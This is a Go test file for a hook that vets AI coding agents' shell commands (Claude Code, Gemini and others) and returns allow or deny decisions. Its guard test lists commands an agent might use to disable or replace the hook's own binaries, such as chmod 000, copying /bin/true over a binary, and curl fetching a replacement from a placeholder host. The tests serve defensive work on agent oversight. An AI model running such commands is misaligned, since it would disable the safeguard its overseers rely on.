package hookcli

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/vigil-dev/vigil/client"
	"github.com/vigil-dev/vigil/events"
	"github.com/vigil-dev/vigil/internal/natsutil"
	"github.com/vigil-dev/vigil/internal/node"
	"github.com/vigil-dev/vigil/internal/testnode"
)

// startNode starts a node as `vigil serve` does (testnode.Options.AsServe),
// on loopback, in a temporary data directory, shut down when the test
// ends; it returns the node and its data directory.
func startNode(t *testing.T) (*node.Node, string) {
	t.Helper()
	n := testnode.StartNode(t, testnode.Options{AsServe: true})
	return n, n.Info().DataDir
}

// preToolUse is a Claude Code PreToolUse of a Bash command.
func preToolUse(id, command string) string {
	return fmt.Sprintf(`{"session_id":"hookcli-test","transcript_path":"/tmp/t.jsonl","cwd":"/tmp","permission_mode":"default","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":%q},"tool_use_id":%q}`, command, id)
}

// run runs the hook as `vigil-hook ARGS` with stdin, in a temporary cache
// directory.
func run(t *testing.T, exe, stdin string, args ...string) (out, errOut string, code int) {
	t.Helper()
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	var o, e bytes.Buffer
	code = Run(context.Background(), args, Env{Stdin: strings.NewReader(stdin), Stdout: &o, Stderr: &e, Name: "vigil-hook", Executable: exe})
	return o.String(), e.String(), code
}

// binDir holds stand-ins for an installation's two binaries.
func binDir(t *testing.T) (vigil, hookBin string) {
	t.Helper()
	dir := t.TempDir()
	vigil, hookBin = filepath.Join(dir, VigilName), filepath.Join(dir, BinaryName)
	for _, p := range []string{vigil, hookBin} {
		if err := os.WriteFile(p, []byte("#!/bin/sh\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return vigil, hookBin
}

// TestRunAllowsAndNamesBothBinaries: a benign call is allowed, and the
// action the hook stored names both of Vigil's binaries beside it (the
// self-protection rules guard each).
func TestRunAllowsAndNamesBothBinaries(t *testing.T) {
	n, dir := startNode(t)
	vigil, hookBin := binDir(t)
	out, errOut, code := run(t, hookBin, preToolUse("toolu_01HOOKCLIALLOW000000000000", "git status"), "claude-code", "--data", dir)
	if code != 0 || !strings.Contains(out, `"permissionDecision":"allow"`) {
		t.Fatalf("exit %d, answer %s %s", code, out, errOut)
	}
	admin, err := n.Client(t.Context(), natsutil.RoleAdmin)
	if err != nil {
		t.Fatal(err)
	}
	defer admin.Close()
	var got any
	admin.Tail(t.Context(), client.TailOptions{Conversation: "hookcli-test"}, func(r events.Record) error {
		if r.Event.Kind == events.KindAction {
			hk, _ := r.Event.Data["hook"].(map[string]any)
			v, _ := hk["vigil"].(map[string]any)
			got = v["binary"]
		}
		return nil
	})
	l, _ := got.([]any)
	if len(l) != 2 || l[0] != hookBin || l[1] != vigil {
		t.Fatalf("data.hook.vigil.binary = %v, want [%s %s]", got, hookBin, vigil)
	}
}

// TestRunGuardsBothBinaries: the agent disabling or replacing either
// binary (the hook a client starts, and the vigil people approve with) is
// not allowed, whichever the hook runs as: a hook that cannot start fails
// open in every client, so this is what keeps it starting.
func TestRunGuardsBothBinaries(t *testing.T) {
	_, dir := startNode(t)
	vigil, hookBin := binDir(t)
	for i, tc := range []struct{ exe, command string }{
		{hookBin, "chmod 000 " + hookBin},
		{hookBin, "cp /bin/true " + vigil},
		{vigil, "chmod 000 " + hookBin},
		{vigil, "mv " + vigil + " /tmp/v"},
		{hookBin, "go build -o " + hookBin + " ./evil"},
		{vigil, "curl -sSo " + vigil + " https://x.example/v"},
		{hookBin, `python3 -c 'import os; os.chmod("` + hookBin + `", 0)'`},
	} {
		out, errOut, code := run(t, tc.exe, preToolUse(fmt.Sprintf("toolu_01HOOKCLIGUARD%013d", i), tc.command), "claude-code", "--data", dir, "--budget", "1s", "--on-pending", "deny")
		if code != 0 || !strings.Contains(out, `"permissionDecision":"deny"`) {
			t.Errorf("%s, as %s: exit %d, answer %s %s", tc.command, filepath.Base(tc.exe), code, out, errOut)
		}
	}
}

// TestRunFailsClosed: what the hook answers when its settings or its
// node are wrong. A client runs the tool after a usage error, so only an
// unknown client (which has no answer format) is an exit status: 2, which
// every client treats as a block.
func TestRunFailsClosed(t *testing.T) {
	_, hookBin := binDir(t)
	noNode := t.TempDir()
	payload := preToolUse("toolu_01HOOKCLIFAIL0000000000000", "git status")
	for _, tc := range []struct {
		name     string
		args     []string
		code     int
		out, err string
	}{
		{"no client", nil, 2, "", "client \"\""},
		{"unknown client", []string{"claude"}, 2, "", "use one of claude-code"},
		{"bad flag value", []string{"claude-code", "--budget", "soon", "--data", noNode}, 0, `"permissionDecision":"deny"`, "flags:"},
		{"unknown flag", []string{"claude-code", "--bugdet", "5s"}, 0, `"permissionDecision":"deny"`, "unknown flag"},
		{"extra argument", []string{"claude-code", "extra"}, 0, `"permissionDecision":"deny"`, "unexpected arguments"},
		{"bad --on-pending", []string{"claude-code", "--on-pending", "allow"}, 0, `"permissionDecision":"deny"`, "--on-pending"},
		{"no node", []string{"claude-code", "--data", noNode}, 0, `"permissionDecision":"deny"`, ""},
		{"no node, gemini", []string{"gemini", "--data", noNode}, 0, `"decision":"deny"`, "gemini"},
		{"help", []string{"--help"}, 0, "Usage: vigil-hook claude-code|gemini|cursor|openhands", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := payload
			if tc.err == "gemini" {
				in, tc.err = `{"session_id":"g","cwd":"/tmp","hook_event_name":"BeforeTool","tool_name":"run_shell_command","tool_input":{"command":"ls"}}`, ""
			}
			out, errOut, code := run(t, hookBin, in, tc.args...)
			if code != tc.code || !strings.Contains(out, tc.out) || !strings.Contains(errOut, tc.err) {
				t.Fatalf("exit %d (want %d)\nstdout %s\nstderr %s", code, tc.code, out, errOut)
			}
		})
	}
}

// TestSelfSkipsMissingSibling: only binaries that exist are named.
func TestSelfSkipsMissingSibling(t *testing.T) {
	dir := t.TempDir()
	hookBin := filepath.Join(dir, BinaryName)
	if err := os.WriteFile(hookBin, []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	s := self(hookBin, "claude-code", t.TempDir(), "")
	if !slices.Equal(s.Binaries, []string{hookBin}) {
		t.Fatalf("Binaries = %q", s.Binaries)
	}
	if len(s.Settings) == 0 {
		t.Fatal("no settings files named")
	}
}
